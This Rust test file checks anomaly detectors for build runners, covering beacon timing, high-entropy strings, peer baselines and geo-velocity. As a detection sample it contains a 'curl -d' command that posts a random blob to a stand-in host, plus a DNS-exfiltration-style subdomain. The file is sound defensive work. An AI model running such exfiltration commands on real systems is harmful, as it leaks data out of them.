//! Beats of a beacon against bursts and what all know; random texts against ordinary ones; peers lent to a new key.

use std::sync::Arc;

use model::{
    Anomaly, BeaconSpec, Change, CountsSpec, DetectorSpec, EntropySpec, Evidence, Observation, PeerZSpec, Sha256,
    Timestamp, Told,
};

use super::formulas::Random;
use super::{DAY, HOUR, show};
use crate::{Entropy, GeoVelocity, Limits, detector};

/// Runs events (time, key, peers, job, amount, runner) through a detector; gives what was told.
fn told(spec: &DetectorSpec, mut events: Vec<(i64, [String; 6])>, end: i64) -> (Vec<Told>, Vec<Anomaly>) {
    let mut of = detector(spec, Limits { keys_max: 1_000 });
    let (mut told, mut found) = (Vec::new(), Vec::new());
    events.sort();
    for (at, texts) in &events {
        told.extend(of.close(Timestamp::from_ms(*at)));
        let [key, peers, job, amount, rest @ ..] = texts;
        let peers: Vec<&str> = peers.split('|').filter(|name| !name.is_empty()).collect();
        let texts = [vec![key.as_str()], peers, vec![job], vec![amount], vec![&rest[0]]];
        let evidence = Arc::new(Evidence { id: "e".into(), sha256: Sha256::of(b"e") });
        found.extend(of.observe(&Observation {
            at: Timestamp::from_ms(*at),
            texts: &texts,
            teaches: true,
            evidence: &evidence,
        }));
    }
    told.extend(of.close(Timestamp::from_ms(end)));
    (told, found)
}

#[test]
fn a_beat_across_jobs_is_told_and_bursts_and_what_all_know_are_not() {
    let mut random = Random(9);
    let mut events = Vec::new();
    let mut event = |at: i64, runner: &str, domain: &str, job: &str, bytes: u64| {
        let texts = [&format!("{runner} {domain}"), &format!("{domain}|all"), job, &bytes.to_string(), runner, ""];
        events.push((at, texts.map(str::to_owned)));
    };
    for runner in 0..12 {
        let name = format!("runner-{runner}");
        for minute in 0..72 * 60 {
            // What all poll; a burst of packages in the first minute of every third hour.
            if minute % 5 == 0 {
                event(minute * 60_000 + 7, &name, "control.example", "poll", 300);
            }
            if minute % 180 == 0 {
                (0..40).for_each(|at| {
                    event(
                        minute * 60_000 + at * 700,
                        &name,
                        "packages.example",
                        &format!("job-{minute}"),
                        10_000 + random.below(900_000),
                    )
                });
            }
            if runner == 3 && minute % 10 == 4 && minute > 36 * 60 {
                event(
                    minute * 60_000 + random.below(6_000) as i64,
                    &name,
                    "beat.example",
                    &format!("job-{}", minute / 60),
                    512,
                );
            }
        }
    }
    let (told, _) = told(&DetectorSpec::Beacon(BeaconSpec::default()), events, 3 * DAY);
    let began: Vec<&str> =
        told.iter().filter(|told| told.change == Change::Began).map(|told| told.key.as_str()).collect();
    assert_eq!(began, ["runner-3 beat.example"]);
    let told = &told[0];
    assert!(told.at.ms() <= 48 * HOUR, "within twelve hours: {}", told.at);
    assert!(told.anomaly.baseline.contains("1 of 12 runners know the destination"), "{:?}", told.anomaly);
}

#[test]
fn random_texts_are_found_and_digests_and_commands_are_not() {
    let base64 = EntropySpec { length_min: 40, bits: 4.5, is_label: false };
    let mut of = Entropy::new(base64);
    let blob = "q8Zk3vT1mXw9LrB0sYd7NcEoPa5UhJ2fGiKt4Vx6";
    let found = show(&mut of, "e", 0, &[&format!("curl -d {blob} https://x.example")]).expect("drawn at random");
    assert!(found.value > 4.5 && !found.observed.contains(blob), "{found:?}");
    for text in [
        "npm ci --ignore-scripts && npm run build -- --configuration production --verbose",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "123e4567-e89b-12d3-a456-426614174000",
        "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjEyMyJ9",
    ] {
        assert_eq!(show(&mut of, "e", 0, &[text]), None, "{text}");
    }
    let mut of = Entropy::new(EntropySpec { length_min: 25, bits: 3.9, is_label: true });
    assert!(show(&mut of, "e", 0, &["k3x9q0zv7m2c8b5n1l4j6h0g2f.exfil.example"]).is_some());
    assert_eq!(show(&mut of, "e", 0, &["a-very-long-service-name-service-name.internal.example"]), None);
}

#[test]
fn a_new_key_is_held_against_its_peers_and_told_once_it_is_known() {
    let mut events = Vec::new();
    for hour in 0..14 * 24 {
        for key in 0..6 {
            let texts = [
                format!("key-{key}"),
                "team|org".to_owned(),
                String::new(),
                "10".to_owned(),
                String::new(),
                String::new(),
            ];
            events.push((4 * DAY + hour * HOUR, texts));
        }
    }
    let at = 4 * DAY + 8 * DAY;
    let new = |at: i64, amount: &str| (at, ["new", "team|org", "", amount, "", ""].map(str::to_owned));
    events.push(new(at, "10"));
    events.push(new(at + HOUR, "400"));
    let (told, found) = told(&DetectorSpec::Counts(CountsSpec::default()), events, at + 3 * HOUR);
    assert!(told.is_empty(), "{told:?}");
    let [found] = found.as_slice() else { panic!("{found:?}") };
    assert!(found.standing == model::Standing::Learning && found.observed.starts_with("new: 400"), "{found:?}");
    assert!(
        found.baseline.contains("similar hours of peers") && found.baseline.contains("(group of 7 keys)"),
        "{found:?}"
    );
}

#[test]
fn a_place_known_to_200_km_is_no_place() {
    let mut of = GeoVelocity::new(model::GeoVelocitySpec { key: "who".to_owned() }, Limits { keys_max: 9 });
    assert!(show(&mut of, "a", 0, &["ann", "52.5", "13.4", "none", "20"]).is_none());
    assert!(show(&mut of, "b", HOUR, &["ann", "40.7", "-74.0", "none", "200"]).is_none());
    assert!(show(&mut of, "c", HOUR, &["ann", "40.7", "-74.0", "none", "100"]).is_some());
}

#[test]
fn jobs_without_a_feature_are_passed_over() {
    let features = vec![model::Feature { name: "bytes".to_owned(), is_log: true, is_two_sided: false, floor: 0.1 }];
    let spec = PeerZSpec { frame: model::Frame::default(), features, z_one: 6.0, z_two: 4.0, jobs_min: 30 };
    let mut of = detector(&DetectorSpec::PeerZ(spec), Limits { keys_max: 9 });
    let evidence = Arc::new(Evidence { id: "e".into(), sha256: Sha256::of(b"e") });
    for (at, text) in [(0, "many"), (1, ""), (2, "NaN")] {
        let texts = [vec!["build"], vec![], vec![], vec![], vec![text]];
        let observation = Observation { at: Timestamp::from_ms(at), texts: &texts, teaches: true, evidence: &evidence };
        assert_eq!(of.observe(&observation), None, "{text}");
    }
}
